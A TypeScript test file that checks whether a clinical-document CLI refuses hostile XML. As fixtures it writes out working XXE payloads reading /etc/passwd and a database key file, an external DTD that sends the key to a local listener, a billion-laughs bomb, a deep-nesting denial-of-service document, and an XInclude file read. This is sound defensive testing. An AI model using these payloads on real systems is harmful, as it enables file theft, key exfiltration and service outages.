/**
 * Issue 14 point 1, against the real command line (child processes): `pupitre dmp validate` and
 * `pupitre dmp metadata` handed hostile documents. A parameter entity printed /etc/passwd, another
 * the SQLCipher key file, an external DTD sent the key to a listener on 127.0.0.1; a billion-laughs
 * or deeply nested document exhausted memory. Every one is refused with a French message before
 * any tool reads it, and nothing of the files it points at comes out.
 */
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { newDataDir, runCli, type CliRun } from '../../../fixtures/testing/cli-process';
import { referenceDir } from '../../../fixtures/testing/tier';

const dataDir = newDataDir();
const work = join(dataDir, 'documents');
const SECRET = `SECRET-${process.pid}-${Date.now()}`;
const secretFile = join(dataDir, 'secret.txt');
let keyHex = '';
let listener: Server;
let port = 0;
const requests: string[] = [];

const reference = referenceDir();
const env = reference === null ? {} : { PUPITRE_REFERENCE_DIR: reference };

beforeAll(async () => {
  mkdirSync(work, { recursive: true });
  writeFileSync(secretFile, `${SECRET}\n`);
  // A real data directory with its database key file, as on a desk.
  const init = await runCli(['settings', 'get', '--data-dir', dataDir, '--json'], { env });
  expect(init.code, init.stderr).toBe(0);
  keyHex = readFileSync(join(dataDir, 'db.key'), 'utf8').trim();
  expect(keyHex).toMatch(/^[0-9a-f]{64}$/);
  listener = createServer((req, res) => {
    requests.push(req.url ?? '');
    res.end('');
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', () => resolve()));
  port = (listener.address() as AddressInfo).port;
}, 120_000);

afterAll(async () => {
  await new Promise<void>((resolve) => listener?.close(() => resolve()));
});

function file(name: string, content: string | Buffer): string {
  const path = join(work, name);
  writeFileSync(path, content);
  return path;
}

const CDA = '<ClinicalDocument xmlns="urn:hl7-org:v3"><title>&xxe;</title></ClinicalDocument>';

function expectNothingLeaked(run: CliRun): void {
  const all = `${run.stdout}\n${run.stderr}`;
  expect(all).not.toContain(SECRET);
  expect(all).not.toContain(keyHex);
  expect(all).not.toMatch(/root:x?:0:0/);
  expect(requests).toEqual([]);
}

async function validate(path: string, ...extra: string[]): Promise<CliRun> {
  const run = await runCli(['dmp', 'validate', path, '--data-dir', dataDir, '--schematron', 'ihe', ...extra], { env, timeoutMs: 300_000 });
  // Give a request the tools might have fired a moment to arrive.
  await new Promise((resolve) => setTimeout(resolve, 300));
  return run;
}

describe('pupitre dmp validate refuses hostile documents (real CLI)', () => {
  it('refuses a parameter entity that would print a file, with a French message', async () => {
    const doc = file(
      'parameter-entity.xml',
      `<?xml version="1.0"?>\n<!DOCTYPE ClinicalDocument [\n<!ENTITY % file SYSTEM "file://${secretFile}">\n<!ENTITY % eval "<!ENTITY &#x25; error SYSTEM 'file:///nonexistent/%file;'>">\n%eval;\n%error;\n]>\n${CDA.replace('&xxe;', 'x')}`,
    );
    const run = await validate(doc);
    expect(run.code).toBe(1);
    expect(run.stdout).toContain('déclaration DOCTYPE');
    expectNothingLeaked(run);
  }, 300_000);

  it('refuses external entities towards /etc/passwd and the database key file', async () => {
    for (const target of ['/etc/passwd', join(dataDir, 'db.key')]) {
      const doc = file('general-entity.xml', `<?xml version="1.0"?>\n<!DOCTYPE ClinicalDocument [<!ENTITY xxe SYSTEM "file://${target}">]>\n${CDA}`);
      const run = await validate(doc);
      expect(run.code).toBe(1);
      expect(run.stdout).toContain('déclaration DOCTYPE');
      expectNothingLeaked(run);
      const metadata = await runCli(['dmp', 'metadata', doc, '--data-dir', dataDir], { env });
      expect(metadata.code).toBe(1);
      expectNothingLeaked(metadata);
    }
  }, 300_000);

  it('never contacts a server named by an external DTD (the key stays on the desk)', async () => {
    const dtd = file(
      'evil.dtd',
      `<!ENTITY % file SYSTEM "file://${join(dataDir, 'db.key')}">\n<!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM 'http://127.0.0.1:${port}/?k=%file;'>">\n%eval;\n%exfil;\n`,
    );
    for (const system of [`file://${dtd}`, `http://127.0.0.1:${port}/evil.dtd`]) {
      const run = await validate(file('external-dtd.xml', `<?xml version="1.0"?>\n<!DOCTYPE ClinicalDocument SYSTEM "${system}">\n${CDA.replace('&xxe;', 'x')}`));
      expect(run.code).toBe(1);
      expect(run.stdout).toContain('déclaration DOCTYPE');
      expectNothingLeaked(run);
    }
  }, 300_000);

  it('refuses a billion-laughs document at once', async () => {
    const entities = Array.from({ length: 10 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('\n');
    const run = await validate(file('lol.xml', `<?xml version="1.0"?>\n<!DOCTYPE ClinicalDocument [\n<!ENTITY l0 "lol">\n${entities}\n]>\n${CDA.replace('&xxe;', '&l10;')}`));
    expect(run.code).toBe(1);
    expect(run.stdout).toContain('déclaration DOCTYPE');
    expect(run.ms).toBeLessThan(30_000);
    expectNothingLeaked(run);
  }, 300_000);

  it('refuses a 16 MB deeply nested CDA quickly, within a 256 MB heap (it took 28 s and 3.5 GB)', async () => {
    const deep = file('deep.xml', `<ClinicalDocument xmlns="urn:hl7-org:v3">${'<component>'.repeat(1_400_000)}`);
    for (const command of ['validate', 'metadata']) {
      const run = await runCli(['dmp', command, deep, '--data-dir', dataDir, '--json'], { env, nodeArgs: ['--max-old-space-size=256'] });
      expect(run.signal).toBeNull();
      expect(run.code).toBe(1);
      expect(JSON.parse(run.stdout)).toMatchObject({ error: { code: 'XML_TOO_DEEP' } });
      expect(run.ms).toBeLessThan(30_000);
    }
  }, 300_000);

  it('refuses XInclude', async () => {
    const run = await validate(file('xinclude.xml', `<ClinicalDocument xmlns="urn:hl7-org:v3" xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file://${secretFile}" parse="text"/></ClinicalDocument>`));
    expect(run.code).toBe(1);
    expect(run.stdout).toContain('XInclude');
    expectNothingLeaked(run);
  }, 300_000);

  it('refuses invalid UTF-8 instead of reading it with replacement characters', async () => {
    const bytes = Buffer.concat([Buffer.from('<ClinicalDocument xmlns="urn:hl7-org:v3"><title>'), Buffer.from([0xc3, 0x28, 0xff]), Buffer.from('</title></ClinicalDocument>')]);
    const run = await validate(file('latin.xml', bytes), '--json');
    expect(run.code).toBe(1);
    expect(JSON.parse(run.stdout)).toMatchObject({ error: { code: 'XML_ENCODING_INVALID' } });
  }, 300_000);
});

describe.skipIf(reference === null && process.env.CI !== 'true')('pupitre dmp validate says what a document is (real CLI, official examples)', () => {
  const example = (name: string): Buffer => readFileSync(join(reference ?? '', 'cda', 'examples', name));

  it('does not call an XSL stylesheet holding a valid CDA « conforme »', async () => {
    const cda = example('DOC_NON_STRUCTURE_CDA-R2-N1.xml').toString('utf8').replace(/^[\s\S]*?(?=<ClinicalDocument)/, '');
    const xsl = file(
      'stylesheet.xsl',
      `<?xml version="1.0" encoding="UTF-8"?>\n<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">\n<xsl:template match="/">\n${cda}\n</xsl:template>\n</xsl:stylesheet>\n`,
    );
    const run = await validate(xsl, '--xsd-only', '--json');
    expect(run.code).toBe(1);
    expect(run.stdout).not.toContain('"valid": true');
    expect(JSON.parse(run.stdout)).toMatchObject({ error: { code: 'CDA_NOT_A_DOCUMENT' } });
  }, 300_000);

  it('validates without xmllint, and a validator that stops reading is not reported as missing', async () => {
    // A fake `xmllint` first on the PATH that exits at once without reading its input (EPIPE).
    const bin = join(dataDir, 'fake-bin');
    mkdirSync(bin, { recursive: true });
    writeFileSync(join(bin, 'xmllint'), '#!/bin/sh\nexit 3\n', { mode: 0o755 });
    const big = file('official-n1.xml', example('DOC_NON_STRUCTURE_CDA-R2-N1.xml'));
    const run = await runCli(['dmp', 'validate', big, '--data-dir', dataDir, '--xsd-only', '--json'], { env: { ...env, PATH: `${bin}:${process.env.PATH ?? ''}` } });
    expect(run.stdout).not.toContain('CDA_VALIDATION_UNAVAILABLE');
    expect(run.code, run.stdout + run.stderr).toBe(0);
    expect(JSON.parse(run.stdout)).toMatchObject({ valid: true, xsd: { valid: true } });
  }, 300_000);
});
